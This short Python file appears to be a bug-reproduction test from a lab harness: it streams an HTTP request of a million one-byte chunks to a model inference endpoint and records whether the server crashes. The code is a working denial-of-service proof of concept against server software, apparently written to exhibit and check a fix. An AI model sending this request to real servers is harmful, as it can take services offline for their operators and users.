"""A body of a million chunks of one byte."""

import socket

from labkit.exhibit import ExhibitServer, Observation


def reproduce(server: ExhibitServer) -> Observation:
    chunks = 100 if server.workaround else 1_000_000
    head = f"POST /v2/models/work/infer HTTP/1.1\r\nHost: {server.http}\r\nTransfer-Encoding: chunked\r\n\r\n"
    host, _, port = server.http.partition(":")
    with socket.create_connection((host, int(port)), timeout=60) as connection:
        try:
            connection.sendall(head.encode() + b"1\r\n \r\n" * chunks + b"0\r\n\r\n")
            answer = connection.recv(100).decode(errors="replace")
        except OSError as error:
            answer = str(error)
    how = server.wait_dead(3)
    return Observation(
        bool(how), f"{chunks:,} chunks: {answer[:40].strip() or 'no answer'}; the server: {how or 'lives'}"
    )
